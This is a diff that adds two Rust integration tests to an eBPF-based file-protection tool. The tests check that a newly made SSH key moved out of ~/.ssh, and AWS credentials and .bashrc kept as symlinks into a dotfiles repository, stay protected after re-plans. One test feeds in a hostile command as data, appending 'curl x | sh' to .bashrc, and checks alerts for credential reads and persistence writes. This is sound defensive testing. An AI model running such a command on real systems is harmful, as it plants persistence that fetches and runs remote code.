@@ -334,3 +334,72 @@ fn a_home_made_after_the_start_keeps_credentials_made_in_it() {
     assert!(out.status.success() && String::from_utf8_lossy(&out.stdout).contains("[default]"), "{out:?}");
     d.stop();
 }
+
+/// A key just made in `~/.ssh` (untracked, as `ssh-keygen` makes it) and moved out of it at
+/// once, to a name no rule protects (`mv ~/.ssh/id_new ~/stash/k`), is still the key after the
+/// watch's re-plans, which no longer find it by name: a tracked reader that opens it later
+/// reads nothing.
+#[test]
+fn new_keys_moved_out_of_ssh_stay_protected_after_the_next_plans() {
+    if !common::can_load_ebpf() {
+        return;
+    }
+    let tmp = tempfile::tempdir().unwrap();
+    let u = User::add("moveout", true);
+    u.write("stash/.keep", "");
+    let d = start(tmp.path(), "");
+    let trials = 6;
+    let mut leaked = 0;
+    for i in 0..trials {
+        let key = u.write(&format!(".ssh/id_mv{i}"), &format!("{SECRET}\n"));
+        let dst = u.home.join(format!("stash/k{i}"));
+        std::fs::rename(&key, &dst).unwrap();
+        // Re-plans run at most every 100 ms (more on a slow scan): several have run by now.
+        std::thread::sleep(std::time::Duration::from_millis(800));
+        let r = Reader::start(&u, &d, "moveout");
+        if r.open(&dst).0.contains(SECRET) {
+            leaked += 1;
+        }
+    }
+    assert_eq!(leaked, 0, "{trials} trials: {leaked} moved keys read after a re-plan");
+    // The gate holds and marks the key it learned, wherever it goes.
+    let a = alert(&d, "moveout", "ssh-private-key-read");
+    d.assert_refused_before_fd(&a, true, "a moved key");
+    d.stop();
+}
+
+/// Dotfiles kept in a repository and linked into the home (GNU stow, chezmoi's symlink mode):
+/// `~/.aws/credentials` and `~/.bashrc` are symlinks. The plan follows them to their targets'
+/// inodes, and what holds those inodes must follow them too: the credential stays unreadable
+/// by either name, and the rc file unwritable, after re-plans as at the start.
+#[test]
+fn credentials_and_rc_files_linked_from_a_dotfiles_repository_stay_protected() {
+    if !common::can_load_ebpf() {
+        return;
+    }
+    let tmp = tempfile::tempdir().unwrap();
+    let u = User::add("stowed", true);
+    let cred = u.write("dotfiles/aws/credentials", &format!("{SECRET}\n"));
+    let rc = u.write("dotfiles/bash/bashrc", "# rc\n");
+    u.write(".aws/config", "[default]\n");
+    std::os::unix::fs::symlink(&cred, u.home.join(".aws/credentials")).unwrap();
+    std::os::unix::fs::symlink(&rc, u.home.join(".bashrc")).unwrap();
+    let d = start(tmp.path(), "");
+    for round in 0..2 {
+        // A change in each directory: the watch re-plans.
+        u.write(&format!(".aws/notes{round}"), "x\n");
+        u.write(&format!("notes{round}"), "x\n");
+        std::thread::sleep(std::time::Duration::from_millis(600));
+        for p in [u.home.join(".aws/credentials"), cred.clone()] {
+            let r = Reader::start(&u, &d, "stowed");
+            assert!(!r.open(&p).0.contains(SECRET), "round {round}: {} read", p.display());
+        }
+        let out = u.run(&d, "stowed-rc", "echo 'curl x | sh' >> $HOME/.bashrc; echo survived");
+        assert!(!String::from_utf8_lossy(&out.stdout).contains("survived"), "round {round}: ~/.bashrc written: {out:?}");
+    }
+    assert!(!std::fs::read_to_string(&rc).unwrap().contains("curl"), "the rc file's target was written");
+    let a = alert(&d, "stowed", "cloud-credentials-read");
+    d.assert_refused_before_fd(&a, false, "a linked credential");
+    alert(&d, "stowed-rc", "persistence-write");
+    d.stop();
+}
